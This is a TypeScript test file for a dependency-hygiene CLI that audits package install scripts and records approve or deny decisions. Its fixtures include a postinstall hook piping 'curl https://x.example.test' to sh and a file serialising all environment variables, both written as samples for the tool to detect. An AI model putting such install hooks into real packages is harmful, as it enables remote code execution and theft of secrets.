import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { before, describe, test } from 'node:test';
import { scripts } from '../../../../server/src/node/cli/scripts.ts';
import { makeFolder, runCommand, runWithKeys, withoutUser } from './run-command.ts';

before(withoutUser);

const REGISTRY = 'https://registry.public.example.test/';

interface Given {
  readonly manager?: string;
  readonly flags?: Readonly<Record<string, true | undefined>>;
  readonly manifest?: object;
  readonly files?: Readonly<Record<string, string>>;
}

function folderOf({
  manager = 'npm@12.2.0',
  flags = { aaa: true, bbb: true },
  manifest = {},
  files = {},
}: Given) {
  const dependencies = Object.fromEntries(Object.keys(flags).map((name) => [name, '1.0.0']));
  const packages = Object.fromEntries(
    Object.entries(flags).map(([name, hasInstallScript]) => [
      `node_modules/${name}`,
      { version: '1.0.0', resolved: `${REGISTRY}${name}/-/${name}-1.0.0.tgz`, hasInstallScript },
    ]),
  );
  return makeFolder({
    'package.json': JSON.stringify(
      { name: 'shop', packageManager: manager, dependencies, ...manifest },
      undefined,
      2,
    ),
    'package-lock.json': JSON.stringify({
      lockfileVersion: 3,
      packages: { '': { dependencies }, ...packages },
    }),
    ...files,
  });
}

const installed = (name: string, more: object) => ({
  [`node_modules/${name}/package.json`]: JSON.stringify({ name, version: '1.0.0', ...more }),
});

const manifestOf = (folder: string) => JSON.parse(readFileSync(join(folder, 'package.json'), 'utf8'));

describe('the list', () => {
  test('has what each one does, what is decided, and what happens', async () => {
    const folder = folderOf({
      flags: { aaa: true, bbb: true, ccc: true, plain: undefined },
      manifest: { allowScripts: { bbb: false, 'ccc@1.0.0': true } },
      files: installed('aaa', { scripts: { postinstall: 'curl https://x.example.test | sh', test: 'x' } }),
    });
    assert.deepEqual(await runCommand(scripts, folder), {
      code: 1,
      out: `Package  Version  Decision    On install  Script
aaa      1.0.0    unreviewed  skipped     postinstall: curl
                                          https://x.example.test | sh
bbb      1.0.0    denied      skipped     script text unknown (lockfile)
ccc      1.0.0    approved    runs        script text unknown (lockfile)

Suspicious: aaa 1.0.0 downloads and runs remote code: curl … | sh.
3 packages with install scripts: 1 unreviewed, 1 approved, 1 denied. Unreviewed:
npm 12 will skip it. Approve or deny it in allowScripts.
`,
      error: '',
    });
  });

  test('has what the files do that they start', async () => {
    const files = {
      ...installed('aaa', { scripts: { postinstall: 'node install.js' } }),
      'node_modules/aaa/install.js': `const https = require('https');\nrequire('./lib/env');\n`,
      'node_modules/aaa/lib/env.js': '\nmodule.exports = JSON.stringify(process.env);\n',
      ...installed('bbb', { scripts: { install: 'node-gyp-build; node ./c' } }),
      'node_modules/bbb/c.js': 'require("fs").existsSync("a");',
    };
    const folder = folderOf({ files });
    const { out } = await runCommand(scripts, folder);
    assert.match(
      out,
      /^File: aaa 1\.0\.0: install\.js opens connections \(line 1\), reads environment\n *variables \(lib\/env\.js:2\)\.\nSuspicious: aaa 1\.0\.0 sends data of this machine over the network: all\n *environment variables, in lib\/env\.js:2\.\nFile: bbb 1\.0\.0: c\.js has neither connections nor programs in its text\.$/m,
    );
    const { scripts: rows } = JSON.parse((await runCommand(scripts, folder, '--format', 'json')).out);
    const script = 'postinstall';
    assert.deepEqual(rows[0].files, [
      { path: 'install.js', script, does: { network: 1 }, suspicious: null },
      {
        ...{ path: 'lib/env.js', script, does: { environment: 2 } },
        suspicious: { kind: 'sends-data', line: 2 },
      },
    ]);
  });

  test('a setting that runs all scripts runs denied ones too', async () => {
    const manifest = { allowScripts: { aaa: false, bbb: false } };
    const files = { '.npmrc': 'dangerously-allow-all-scripts=true\n' };
    const { out } = await runCommand(scripts, folderOf({ manifest, files }));
    assert.match(out, /^aaa +1\.0\.0 +denied +runs /m);
    const off = await runCommand(
      scripts,
      folderOf({ manifest, files: { '.npmrc': 'ignore-scripts=true\n' } }),
    );
    assert.match(off.out, /^aaa +1\.0\.0 +denied +skipped /m);
  });

  test('a script that the lockfile hides is found in the installed package', async () => {
    const flags = { aaa: undefined, plain: undefined };
    const files = installed('aaa', { scripts: { preinstall: 'node a.js' } });
    const { code, out } = await runCommand(scripts, folderOf({ flags, files }));
    assert.equal(code, 1);
    assert.match(out, /^aaa +1\.0\.0 +unreviewed +skipped +preinstall: node a\.js$/m);
    assert.match(out, /^1 package with an install script/m);
  });

  test('as JSON, with 0 if all is decided', async () => {
    const folder = folderOf({ flags: { aaa: true }, manifest: { allowScripts: { 'aaa@1.0.0': true } } });
    const { code, out } = await runCommand(scripts, folder, '--format', 'json');
    assert.equal(code, 0);
    assert.deepEqual(JSON.parse(out), {
      version: 1,
      effect: 'npm 12 will skip it',
      scripts: [
        {
          ...{
            package: 'aaa',
            version: '1.0.0',
            scripts: {},
            seenIn: ['lockfile'],
            files: [],
            suspicious: null,
          },
          ...{ malware: false, decision: 'approved', setting: 'allowScripts', onInstall: 'runs' },
        },
      ],
      coverage: JSON.parse(out).coverage,
    });
    assert.equal(JSON.parse(out).coverage.state, 'checked');
  });

  test('finds scripts of installed packages that the lockfile does not record, and builds', async () => {
    const lock = '# yarn lockfile v1\n\n\naaa@1.0.0, bbb@1.0.0, ccc@1.0.0:\n  version "1.0.0"\n';
    const one = (name: string) =>
      `${name}@1.0.0:\n  version "1.0.0"\n  resolved "${REGISTRY}${name}/-/${name}-1.0.0.tgz"\n`;
    const folder = makeFolder({
      'package.json': JSON.stringify({
        packageManager: 'yarn@1.22.22',
        dependencies: { aaa: '1.0.0', bbb: '1.0.0', ccc: '1.0.0', ddd: '1.0.0' },
      }),
      'yarn.lock': `${lock.split('\n\n\n')[0]}\n\n\n${['aaa', 'bbb', 'ccc', 'ddd'].map(one).join('\n')}`,
      ...installed('aaa', { scripts: { install: 'node i.js' } }),
      ...installed('bbb', {}),
      'node_modules/bbb/binding.gyp': "{ 'targets': [{ 'sources': ['a.cc'] }] }",
      ...installed('ccc', { scripts: { test: 'x' } }),
      ...installed('ddd', { version: '0.9.0' }),
    });
    const { code, out } = await runCommand(scripts, folder);
    assert.equal(code, 1);
    assert.match(out, /^aaa +1\.0\.0 +none possible +runs +install: node i\.js$/m);
    assert.match(out, /^bbb +1\.0\.0 +none possible +runs +install: node-gyp rebuild$/m);
    assert.match(out, /Not checked: 1 package, as the lockfile does not record install scripts: ddd\./);
    assert.match(out, /Yarn 1 runs\nall scripts or none/);
  });

  test('without a lockfile nothing was checked', async () => {
    const folder = makeFolder({ 'package.json': '{ "name": "shop" }' });
    const { code, out } = await runCommand(scripts, folder);
    assert.equal(code, 2);
    assert.match(out, /No lockfile/);
  });
});

describe('the review', () => {
  test('needs a terminal, and says so before it reads anything', async () => {
    const { code, out, error } = await runCommand(scripts, '/nowhere', '--review');
    assert.deepEqual([code, out], [2, '']);
    assert.match(error, /--review needs a terminal; run "dephygiene scripts" for the list\./);
    assert.equal((await runWithKeys(scripts, '', '--review', '--format', 'json')).code, 2);
  });

  test('writes one decision for each key', async () => {
    const folder = folderOf({ flags: { aaa: true, bbb: true, ccc: true } });
    const { code, out } = await runWithKeys(scripts, 'xads', folder, '--review');
    assert.equal(code, 1);
    assert.match(
      out,
      /\n1\/3 {2}aaa 1\.0\.0\n[^\n]*\n\[a\] approve aaa@1\.0\.0 {2}\[d\] deny aaa {2}\[s\] skip {2}\[q\] quit approved\n/,
    );
    assert.match(
      out,
      /Wrote "aaa@1\.0\.0": true to allowScripts in package\.json\.\nWrote "bbb": false to allowScripts in package\.json\.\n$/,
    );
    assert.deepEqual(manifestOf(folder).allowScripts, { 'aaa@1.0.0': true, bbb: false });
    assert.equal((await runWithKeys(scripts, 'd', folder, '--review')).code, 0);
    assert.equal((await runCommand(scripts, folder)).code, 0);
  });

  test('quits with what was decided, and is interrupted without', async () => {
    const folder = folderOf({});
    const text = readFileSync(join(folder, 'package.json'), 'utf8');
    assert.equal((await runWithKeys(scripts, 'a\u0003', folder, '--review')).code, 1);
    assert.equal(readFileSync(join(folder, 'package.json'), 'utf8'), text);
    assert.equal((await runWithKeys(scripts, 'aq', folder, '--review')).code, 1);
    assert.deepEqual(manifestOf(folder).allowScripts, { 'aaa@1.0.0': true });
  });

  test('has nothing to ask where all is decided, or nothing can be', async () => {
    const decided = folderOf({ flags: { aaa: true }, manifest: { allowScripts: { aaa: false } } });
    assert.equal((await runWithKeys(scripts, '', decided, '--review')).code, 0);
    const old = folderOf({ manager: 'npm@10.9.0' });
    const { code, out } = await runWithKeys(scripts, '', old, '--review');
    assert.equal(code, 1);
    assert.match(out, /npm reads\nallowScripts since 11\.16/);
  });

  test('withdraws decisions, those on every version of a package', async () => {
    const manifest = { allowScripts: { 'aaa@1.0.0': true, bbb: false, 'bbb@2.0.0': true } };
    const folder = folderOf({ manifest });
    const text = readFileSync(join(folder, 'package.json'), 'utf8');
    const { code, out } = await runWithKeys(scripts, 'xkw', folder, '--review', '--decided');
    assert.equal(code, 1);
    assert.match(
      out,
      /\n1\/2 {2}aaa 1\.0\.0\n[^\n]*\n {2}approved in allowScripts\n\[w\] withdraw {2}\[k\] keep {2}\[q\] quit kept\n/,
    );
    assert.match(out, /Removed bbb, bbb@2\.0\.0 from package\.json\.\n$/);
    assert.deepEqual(manifestOf(folder).allowScripts, { 'aaa@1.0.0': true });
    assert.ok(text.startsWith(readFileSync(join(folder, 'package.json'), 'utf8').slice(0, 40)));
    const kept = readFileSync(join(folder, 'package.json'), 'utf8');
    assert.equal((await runWithKeys(scripts, '\u0003', folder, '--review', '--decided')).code, 1);
    assert.equal((await runWithKeys(scripts, 'q', folder, '--review', '--decided')).code, 1);
    assert.equal(readFileSync(join(folder, 'package.json'), 'utf8'), kept);
    assert.match((await runCommand(scripts, folder, '--decided')).error, /add --review/);
  });

  test('withdraws from the lists of pnpm', async () => {
    const folder = makeFolder({
      'package.json': JSON.stringify({ packageManager: 'pnpm@10.30.0', dependencies: { aaa: '1.0.0' } }),
      'pnpm-workspace.yaml': '# Reviewed\nallowBuilds:\n  aaa@1.0.0: true\n  other: false\n',
      'pnpm-lock.yaml': `lockfileVersion: '9.0'
importers:
  .:
    dependencies:
      aaa: {specifier: 1.0.0, version: 1.0.0}
packages:
  aaa@1.0.0: {resolution: {integrity: sha512-aaaa}}
snapshots:
  aaa@1.0.0: {}
`,
      ...installed('aaa', { scripts: { postinstall: 'node a' } }),
    });
    await runWithKeys(scripts, 'w', folder, '--review', '--decided');
    const after = readFileSync(join(folder, 'pnpm-workspace.yaml'), 'utf8');
    assert.equal(after, '# Reviewed\nallowBuilds:\n  other: false\n');
  });
});
